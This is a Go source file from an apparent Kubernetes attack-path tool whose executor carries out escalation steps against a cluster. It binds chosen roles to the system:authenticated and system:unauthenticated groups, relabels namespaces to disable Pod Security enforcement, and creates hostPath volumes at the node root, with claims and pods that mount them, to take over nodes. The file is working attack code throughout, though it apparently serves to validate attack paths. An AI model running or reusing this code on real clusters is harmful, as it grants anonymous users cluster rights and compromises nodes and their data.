package attackpaths

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strings"

	rbacv1 "k8s.io/api/rbac/v1"

	"github.com/node-authorizer/node-authorizer/attackpaths"
)

// bindText is the text of a step by BindRole: the role and the scope.
var bindText = regexp.MustCompile(`^may bind (ClusterRole|Role) "(?:[^"/]+/)?([^"]+)" in (?:the whole cluster|namespace ([^ ;]+))`)

// everybody are the subjects of the bindings that the attacker makes: each of its identities.
var everybody = []any{
	map[string]any{"kind": "Group", "apiGroup": rbacGroup, "name": "system:authenticated"},
	map[string]any{"kind": "Group", "apiGroup": rbacGroup, "name": "system:unauthenticated"},
}

// bindRole binds a role, in a new binding or one that exists.
func (e *executor) bindRole(ctx context.Context, s step) error {
	m := bindText.FindStringSubmatch(s.Because)
	if m == nil {
		return fmt.Errorf("the step names no role")
	}
	kind, name, namespace := m[1], m[2], m[3]
	resource := clusterRoleBindings
	if namespace != "" {
		resource = roleBindings
	}
	binding := map[string]any{
		"metadata": map[string]any{"name": fmt.Sprint("made-", e.counter.Add(1))},
		"roleRef":  map[string]any{"apiGroup": rbacGroup, "kind": kind, "name": name},
		"subjects": everybody,
	}
	actors := e.acting(s)
	last, _ := first(actors, func(a *actor) answer { return a.post(ctx, resource.in(namespace), binding) })
	for _, o := range e.list(ctx, resource) {
		ref, _ := o.content["roleRef"].(map[string]any)
		if !last.refused() || o.namespace() != namespace || ref["kind"] != kind || ref["name"] != name {
			continue
		}
		subjects, _ := o.content["subjects"].([]any)
		o.content["subjects"] = append(slices.Clone(subjects), everybody...)
		change := map[string]any{"subjects": o.content["subjects"]}
		last, _ = first(actors, func(a *actor) answer { return replace(ctx, a, o.path, o.content, change) })
	}
	if err := last.failure(); err != nil {
		return err
	}
	return e.settle(ctx)
}

// allRules is every right.
var allRules = []any{map[string]any{"verbs": []string{"*"}, "apiGroups": []string{"*"}, "resources": []string{"*"}}}

// isBound reports whether a binding is about an identity that is held.
func (e *executor) isBound(o object) bool {
	subjects, _ := o.content["subjects"].([]any)
	return slices.ContainsFunc(subjects, func(x any) bool {
		m, _ := x.(map[string]any)
		text := func(k string) string { v, _ := m[k].(string); return v }
		return slices.ContainsFunc(e.actors, func(a *actor) bool {
			return isSubject(rbacv1.Subject{Kind: text("kind"), Namespace: text("namespace"), Name: text("name")}, a.holding)
		})
	})
}

// isSubject reports whether a subject of a binding is an identity.
func isSubject(s rbacv1.Subject, h holding) bool {
	switch s.Kind {
	case rbacv1.ServiceAccountKind:
		return h.Kind == attackpaths.ServiceAccount && h.Namespace == s.Namespace && h.Name == s.Name
	case rbacv1.UserKind:
		return h.Kind == attackpaths.User && h.Name == s.Name || h.Kind == attackpaths.ServiceAccount && accountUser(h) == s.Name
	}
	switch s.Name {
	case "system:authenticated":
		return true
	case "system:serviceaccounts", "system:serviceaccounts:" + h.Namespace:
		return h.Kind == attackpaths.ServiceAccount
	case "system:nodes":
		return h.Kind == attackpaths.User && strings.HasPrefix(h.Name, "system:node:")
	}
	return h.Kind == attackpaths.Group && h.Name == s.Name
}

// namespaceRelabel turns Pod Security of a namespace off.
func (e *executor) namespaceRelabel(ctx context.Context, s step) error {
	changed, _ := first(e.acting(s), func(a *actor) answer {
		return relabel(s.To.Name, func(path string, labels map[string]any) answer { return replace(ctx, a, path, labels, labels) })
	})
	if err := changed.failure(); err != nil {
		return err
	}
	return e.untilPrivileged(ctx, s.To.Name, true)
}

// relabel turns Pod Security off by the namespace or a subresource, each of which keeps labels.
func relabel(namespace string, write func(path string, labels map[string]any) answer) answer {
	var last answer
	for _, subresource := range [][]string{nil, {"status"}, {"finalize"}} {
		last = write(namespaces.at("", namespace, subresource...), map[string]any{
			"metadata": map[string]any{"name": namespace, "labels": map[string]any{enforceLabel: "privileged"}},
			"spec":     map[string]any{"finalizers": []string{"kubernetes"}},
		})
		if last.ok() {
			break
		}
	}
	return last
}

// volumeControl mounts a folder of a node through a persistent volume.
func (e *executor) volumeControl(ctx context.Context, s step) error {
	last := error(errNoActor)
	claim := mountsText.FindStringSubmatch(s.Because)
	for _, m := range e.makersOf(s) {
		if claim != nil {
			if m.namespace != claim[1] {
				continue
			}
			if last = e.mountClaim(ctx, s, m, podSpec{claim: claim[2]}); last == nil {
				return nil
			}
			continue
		}
		if free := freeText.FindStringSubmatch(s.Because); free != nil {
			// Each path stands for itself: the volume is as it was before the others.
			unclaimed := map[string]any{"spec": map[string]any{"claimRef": nil}}
			if last = e.admin.patch(ctx, volumes.at("", free[1]), mergePatch, unclaimed).failure(); last == nil {
				last = e.mountClaim(ctx, s, m, podSpec{volume: free[1]})
			}
			if last == nil {
				return nil
			}
			continue
		}
		if last = e.mountHost(ctx, s, m); last == nil {
			return e.ownNode(ctx, s.To.Name)
		}
	}
	return last
}

// mountsText is why a claim that exists gives a node.
var mountsText = regexp.MustCompile(`^a pod may mount the claim ([^/]+)/([^,]+), `)

// freeText is why a volume that no claim has gives a node.
var freeText = regexp.MustCompile(`^a pod may claim the volume ([^,]+), `)

// mountClaim has a pod made that mounts a claim, or claims a volume, on the node that is reached or on one that takes the volume.
func (e *executor) mountClaim(ctx context.Context, s step, m maker, pod podSpec) error {
	node := strings.TrimPrefix(s.To.Name, "system:node:")
	if s.To.Kind == attackpaths.Namespace {
		node = ""
	}
	pod.node = node
	p, err := e.makePod(ctx, m, pod)
	if err != nil {
		return err
	}
	if node != "" {
		if err := e.runs(ctx, p.Namespace, p.Name, node); err != nil {
			return err
		}
	}
	return e.takeOf(ctx, node, s)
}

// mountHost makes a volume, and a claim or a pod for which a controller makes one.
func (e *executor) mountHost(ctx context.Context, s step, m maker) error {
	name := fmt.Sprint("made-", e.counter.Add(1))
	made, _ := first(e.acting(s), func(a *actor) answer { return a.post(ctx, volumes.in(""), hostVolume(name)) })
	if err := made.failure(); err != nil {
		return err
	}
	pod := podSpec{node: s.To.Name, claim: name}
	made, _ = first(e.acting(s), func(a *actor) answer { return a.post(ctx, claims.in(m.namespace), hostClaim(name)) })
	if made.refused() {
		pod = podSpec{node: s.To.Name, volume: name}
	} else if err := made.failure(); err != nil {
		return err
	}
	p, err := e.makePod(ctx, m, pod)
	if err != nil {
		return err
	}
	return e.runs(ctx, p.Namespace, p.Name, s.To.Name)
}

// hostVolume is a persistent volume that is the root folder of the node that mounts it.
func hostVolume(name string) map[string]any {
	return map[string]any{"metadata": map[string]any{"name": name}, "spec": map[string]any{
		"capacity": map[string]any{"storage": "1Gi"}, "accessModes": []string{"ReadWriteMany"},
		"hostPath": map[string]any{"path": "/"},
	}}
}

func hostClaim(name string) map[string]any {
	return map[string]any{"metadata": map[string]any{"name": name}, "spec": map[string]any{
		"accessModes": []string{"ReadWriteMany"}, "volumeName": name, "storageClassName": "",
		"resources": map[string]any{"requests": map[string]any{"storage": "1Gi"}},
	}}
}
